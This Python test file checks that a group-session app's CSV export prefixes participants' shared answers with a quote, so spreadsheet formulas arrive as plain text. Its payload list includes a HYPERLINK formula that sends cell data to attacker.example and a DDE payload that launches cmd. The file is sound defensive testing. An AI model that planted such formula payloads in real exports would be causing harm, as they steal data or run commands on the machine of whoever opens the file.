"""Attacks through the trainer's exports: a participant's shared answer written as a spreadsheet
formula must reach the trainer's spreadsheet as text."""

from __future__ import annotations

import csv
import io

import pytest

from praxis import config
from store import group_sessions
from store.reflections import Owner
from web.summary import export_csv

FORMULAS = ['=HYPERLINK("http://attacker.example/?d="&A1,"Click for the full report")',
            "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def settings(tmp_path):
    return config.Settings(database_url=f"sqlite:///{tmp_path / 'praxis.db'}")


def test_a_shared_answer_written_as_a_formula_is_exported_as_text(settings, embedder):
    row = group_sessions.create("tess", "Away-day", ["leadership"], 4, False, "", settings)
    for n, text in enumerate(FORMULAS + ["An ordinary answer about our careers fair."]):
        who = Owner(f"sender-{n}", "socketio")
        group_sessions.join(row.code, who, settings)
        group_sessions.set_sharing(who, True, settings)
        group_sessions.record(who, 0, text, embedder.embed([text])[0].tolist(),
                              ["Leadership's role"], "", settings)
    rows = list(csv.reader(io.StringIO(export_csv(group_sessions.get(row.id, "tess",
                                                                     settings)))))[1:]
    answers = {r[1] for r in rows}
    assert answers == {"'" + f for f in FORMULAS} | {"An ordinary answer about our careers "
                                                     "fair."}
    for r in rows:  # no text column of any row starts a formula
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in r)
